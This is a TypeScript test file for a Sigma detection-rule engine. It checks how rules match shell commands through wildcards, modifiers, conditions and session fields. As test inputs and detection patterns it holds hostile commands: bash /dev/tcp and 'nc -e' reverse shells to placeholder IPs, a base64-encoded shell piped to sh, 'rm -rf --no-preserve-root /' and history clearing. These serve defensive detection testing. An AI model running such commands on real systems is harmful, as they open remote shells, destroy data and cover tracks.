import { describe, expect, it } from 'vitest';
import { hits, keywordRule, load, processRule } from './helpers.ts';

const sel = (body: string, condition = 'selection') =>
  processRule(`  selection:\n${body}\n  condition: ${condition}`);

describe('Sigma values and wildcards', () => {
  it('an exact value is case-insensitive and whole-field', () => {
    const rule = sel("    Image: '/usr/bin/CURL'");
    expect(hits(rule, 'curl x')).toBe(true);
    expect(hits(rule, 'curly x')).toBe(false);
  });
  it('* and ? are wildcards', () => {
    expect(hits(sel("    CommandLine: 'curl * | ?h'"), 'curl -s x | sh')).toBe(false); // a pipe splits commands
    expect(hits(sel("    CommandLine: 'curl *http*'"), 'curl -s http://x')).toBe(true);
    expect(hits(sel("    CommandLine: 'r? -rf /'"), 'rm -rf /')).toBe(true);
    expect(hits(sel("    CommandLine: 'r? -rf /'"), 'rmm -rf /')).toBe(false);
  });
  it('escaped wildcards \\* and \\? are literal, \\\\ is one backslash', () => {
    const star = sel("    CommandLine|contains: 'rm -rf /tmp/\\*'");
    expect(hits(star, "rm -rf '/tmp/*'")).toBe(true);
    expect(hits(star, 'rm -rf /tmp/x')).toBe(false);
    const q = sel("    CommandLine|endswith: 'what\\?'");
    expect(hits(q, "echo 'what?'")).toBe(true);
    expect(hits(q, 'echo whatx')).toBe(false);
    const bs = sel("    CommandLine|contains: 'a\\\\*b'");
    expect(hits(bs, "echo 'a\\b'")).toBe(true);
    expect(hits(bs, "echo 'a\\zzb'")).toBe(true);
    expect(hits(bs, "echo 'ab'")).toBe(false);
    const plain = sel("    CommandLine|contains: 'c:\\temp'");
    expect(hits(plain, "echo 'c:\\temp'")).toBe(true);
  });
  it('numbers and lists of values (OR)', () => {
    const rule = sel("    CommandLine|endswith:\n      - ' 4444'\n      - 31337");
    expect(hits(rule, 'nc -l 31337')).toBe(true);
    expect(hits(rule, 'nc -l 4444')).toBe(true);
    expect(hits(rule, 'nc -l 80')).toBe(false);
  });
  it('null matches a missing or empty field', () => {
    const rule = sel('    Image|endswith: /id\n    ParentImage: null');
    expect(hits(rule, 'id')).toBe(true);
    expect(hits(rule, 'sudo id')).toBe(false);
  });
});

describe('Sigma modifiers', () => {
  it('contains, startswith, endswith', () => {
    expect(hits(sel("    CommandLine|contains: 'NO-PRESERVE'"), 'rm -rf --no-preserve-root /')).toBe(true);
    expect(hits(sel("    CommandLine|startswith: 'rm '"), 'rm -f x')).toBe(true);
    expect(hits(sel("    CommandLine|startswith: 'rm '"), 'echo rm x')).toBe(false);
    expect(hits(sel("    Image|endswith: '/nc'"), 'busybox nc -e sh 1.2.3.4 9')).toBe(true);
    expect(hits(sel("    Image|endswith: '/nc'"), 'ncat x')).toBe(false);
  });
  it('|all with |contains requires every value', () => {
    const rule = sel("    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'");
    expect(hits(rule, 'nc -e /bin/sh 1.2.3.4 4444')).toBe(true);
    expect(hits(rule, 'nc -l 4444 /bin/sh')).toBe(false);
    expect(hits(rule, 'nc -e /bin/bash 1.2.3.4 4444')).toBe(false);
  });
  it('re runs on RE2, case-sensitive unless |i', () => {
    const rule = sel("    CommandLine|re: '^curl .*\\d+\\.\\d+\\.\\d+\\.\\d+'");
    expect(hits(rule, 'curl http://10.1.2.3/x')).toBe(true);
    expect(hits(rule, 'CURL http://10.1.2.3/x')).toBe(false);
    expect(hits(sel("    CommandLine|re|i: '^curl '"), 'CURL x')).toBe(true);
    expect(hits(sel("    CommandLine|re: '(?i)^curl '"), 'CURL x')).toBe(true);
  });
  it('re refuses backtracking-only syntax instead of running it', () => {
    const { rules, report } = load(sel("    CommandLine|re: '(a)\\1'"));
    expect(rules).toEqual([]);
    expect(report.skipped[0]?.reason).toMatch(/regular expression/);
  });
  it('a catastrophic pattern stays linear', () => {
    const rule = sel("    CommandLine|re: '(a+)+$'");
    const started = performance.now();
    expect(hits(rule, `echo ${'a'.repeat(20_000)}!`)).toBe(false);
    expect(performance.now() - started).toBeLessThan(2000);
  });
  it('cidr on IPv4 and IPv6', () => {
    const v4 = processRule("  selection:\n    Target|cidr: '10.0.0.0/8'\n  condition: selection");
    expect(hits(v4, { text: 'id', session: { target: '10.2.3.4' } })).toBe(true);
    expect(hits(v4, { text: 'id', session: { target: '11.2.3.4' } })).toBe(false);
    const v6 = processRule("  selection:\n    Target|cidr: 'fd00::/8'\n  condition: selection");
    expect(hits(v6, { text: 'id', session: { target: 'fd12::1' } })).toBe(true);
    expect(hits(v6, { text: 'id', session: { target: 'fe80::1' } })).toBe(false);
  });
  it('exists', () => {
    const rule = sel('    Image|endswith: /id\n    ParentImage|exists: true');
    expect(hits(rule, 'sudo id')).toBe(true);
    expect(hits(rule, 'id')).toBe(false);
    expect(hits(sel('    Image|endswith: /id\n    ParentImage|exists: false'), 'id')).toBe(true);
  });
  it('cased makes matching case-sensitive', () => {
    const rule = sel("    CommandLine|contains|cased: 'HISTFILE'");
    expect(hits(rule, 'unset HISTFILE')).toBe(true);
    expect(hits(rule, 'unset histfile')).toBe(false);
  });
  it('windash accepts / and dash variants', () => {
    const rule = sel("    CommandLine|windash|contains: ' -enc '");
    expect(hits(rule, 'pwsh /enc AAA')).toBe(true);
    expect(hits(rule, 'pwsh \u2013enc AAA')).toBe(true);
    expect(hits(rule, 'pwsh enc AAA')).toBe(false);
  });
  it('base64 and base64offset', () => {
    expect(
      hits(sel("    CommandLine|base64|contains: 'curl'"), `echo ${Buffer.from('curl').toString('base64')}`),
    ).toBe(true);
    const offset = sel("    CommandLine|base64offset|contains: '/dev/tcp/'");
    for (const prefix of ['', 'a', 'ab']) {
      const encoded = Buffer.from(`${prefix}bash -i >& /dev/tcp/1.2.3.4/1 0>&1`).toString('base64');
      expect(hits(offset, `echo ${encoded} | base64 -d | sh`)).toBe(true);
    }
  });
  it('unknown modifiers and fields skip the rule with a reason', () => {
    expect(load(sel("    CommandLine|utf16le|contains: 'x'")).report.skipped[0]).toMatchObject({
      line: 9,
      reason: expect.stringMatching(/modifier "utf16le"/),
    });
    expect(load(sel("    LogonId: '0x3e7'")).report.skipped[0]).toMatchObject({
      line: 9,
      reason: expect.stringMatching(/field "LogonId"/),
    });
  });
});

describe('Sigma conditions', () => {
  const two = (condition: string) =>
    processRule(
      `  sel_curl:\n    Image|endswith: /curl\n  sel_pipe:\n    CommandLine|contains: http\n  filter_local:\n    CommandLine|contains: localhost\n  condition: ${condition}`,
    );
  it('and / or / not', () => {
    expect(hits(two('sel_curl and not filter_local'), 'curl http://x')).toBe(true);
    expect(hits(two('sel_curl and not filter_local'), 'curl http://localhost')).toBe(false);
    expect(hits(two('sel_curl or filter_local'), 'wget localhost')).toBe(true);
    expect(hits(two('sel_curl or filter_local'), 'wget x')).toBe(false);
  });
  it('nested parentheses and precedence (not > and > or)', () => {
    expect(hits(two('not (sel_curl and (sel_pipe or filter_local))'), 'curl http://x')).toBe(false);
    expect(hits(two('not (sel_curl and (sel_pipe or filter_local))'), 'curl file:///x')).toBe(true);
    expect(hits(two('filter_local or sel_curl and sel_pipe'), 'wget http://localhost')).toBe(true);
    expect(hits(two('((sel_curl)) and ((not filter_local))'), 'curl x')).toBe(true);
  });
  it('1 of x*, all of x*, not 1 of', () => {
    expect(hits(two('all of sel_*'), 'curl http://x')).toBe(true);
    expect(hits(two('all of sel_*'), 'curl ftp://x')).toBe(false);
    expect(hits(two('1 of sel_* and not 1 of filter_*'), 'wget http://x')).toBe(true);
    expect(hits(two('1 of sel_* and not 1 of filter_*'), 'wget http://localhost')).toBe(false);
    expect(hits(two('any of sel_*'), 'curl ftp://x')).toBe(true);
  });
  it('1 of them and all of them (names starting with _ excluded)', () => {
    const rule = (c: string) =>
      processRule(
        `  a:\n    Image|endswith: /curl\n  b:\n    CommandLine|contains: http\n  _skip:\n    CommandLine|contains: never\n  condition: ${c}`,
      );
    expect(hits(rule('all of them'), 'curl http://x')).toBe(true);
    expect(hits(rule('all of them'), 'curl x')).toBe(false);
    expect(hits(rule('1 of them'), 'wget http://x')).toBe(true);
  });
  it('a list of conditions is an OR', () => {
    const rule = processRule(
      '  a:\n    Image|endswith: /curl\n  b:\n    Image|endswith: /wget\n  condition:\n    - a\n    - b',
    );
    expect(hits(rule, 'wget x')).toBe(true);
  });
  it('a list of maps in one selection is an OR of ANDs', () => {
    const rule = processRule(
      '  selection:\n    - Image|endswith: /curl\n      CommandLine|contains: " -k"\n    - Image|endswith: /wget\n  condition: selection',
    );
    expect(hits(rule, 'curl -k x')).toBe(true);
    expect(hits(rule, 'curl x')).toBe(false);
    expect(hits(rule, 'wget x')).toBe(true);
  });
  it('refuses aggregations, unknown names and bad syntax', () => {
    for (const [condition, reason] of [
      ['sel_curl | count() > 5', /aggregation/],
      ['sel_nope', /unknown selection/],
      ['sel_curl and', /ends early/],
      ['(sel_curl', /unbalanced/],
      ['sel_curl near sel_pipe', /unexpected/],
    ] as const) {
      const { rules, report } = load(two(condition));
      expect(rules).toEqual([]);
      expect(report.skipped[0]?.reason).toMatch(reason);
      expect(report.skipped[0]?.line).toBe(14); // the condition key
    }
  });
});

describe('keyword rules', () => {
  it('search the whole line, as typed and as normalized', () => {
    const rule = keywordRule(
      "  keywords:\n    - 'bash -i >& /dev/tcp/'\n    - 'history -c'\n  condition: keywords",
    );
    expect(hits(rule, 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')).toBe(true);
    expect(hits(rule, "bash -i >& /dev/t''cp/1.2.3.4/4444 0>&1")).toBe(true);
    expect(hits(rule, 'echo ok; HISTORY -C')).toBe(true);
    expect(hits(rule, 'history 10')).toBe(false);
  });
  it('|all keywords need every value; wildcards work inside keywords', () => {
    const rule = keywordRule("  keywords:\n    '|all':\n      - 'nc'\n      - '-e'\n  condition: keywords");
    expect(hits(rule, 'nc -e sh 1.2.3.4 1')).toBe(true);
    expect(hits(rule, 'nc -l 1')).toBe(false);
    expect(
      hits(
        keywordRule("  keywords:\n    - 'rm *sh_history'\n  condition: keywords"),
        'rm -f ~/.bash_history',
      ),
    ).toBe(true);
  });
  it('keyword rules with field conditions are skipped with a reason', () => {
    expect(load(keywordRule('  s:\n    type: EXECVE\n  condition: s')).report.skipped[0]?.reason).toMatch(
      /keyword rule/,
    );
  });
});

describe('evaluation per simple command and session fields', () => {
  it('sees commands behind wrappers, shells and substitutions with their parent and user', () => {
    const rule = sel('    Image|endswith: /curl\n    ParentImage|endswith: /sudo\n    User: root');
    expect(hits(rule, 'cd /tmp && sudo c""url -s x')).toBe(true);
    expect(hits(rule, 'curl -s x')).toBe(false);
    const viaShell = sel('    Image|endswith: /wget\n    ParentImage|endswith: /sh');
    expect(hits(viaShell, `sh -c 'wget -qO- x'`)).toBe(true);
  });
  it('fields of one event must match together', () => {
    const rule = sel("    Image|endswith: /curl\n    CommandLine|contains: ' -k'");
    expect(hits(rule, 'curl x; wget -k y')).toBe(false);
  });
  it('uses the line user and cwd unless a wrapper changes the user', () => {
    const rule = sel('    User: deploy\n    CurrentDirectory: /srv');
    expect(hits(rule, { text: 'ls', user: 'deploy', cwd: '/srv' })).toBe(true);
    expect(hits(rule, { text: 'sudo ls', user: 'deploy', cwd: '/srv' })).toBe(true); // the sudo event itself
    expect(hits(sel('    Image|endswith: /ls\n    User: deploy'), { text: 'sudo ls', user: 'deploy' })).toBe(
      false,
    );
  });
  it('session fields are available to shelltrail rules', () => {
    const rule = sel(
      "    Actor|endswith: '@example.com'\n    Region: eu-west-1\n    Account: '111122223333'\n    Principal|contains: ':role/'",
    );
    const session = {
      actor: 'a@example.com',
      region: 'eu-west-1',
      account: '111122223333',
      principal: 'arn:aws:iam::1:role/x',
    };
    expect(hits(rule, { text: 'id', session })).toBe(true);
    expect(hits(rule, { text: 'id', session: { ...session, region: 'us-east-1' } })).toBe(false);
  });
});
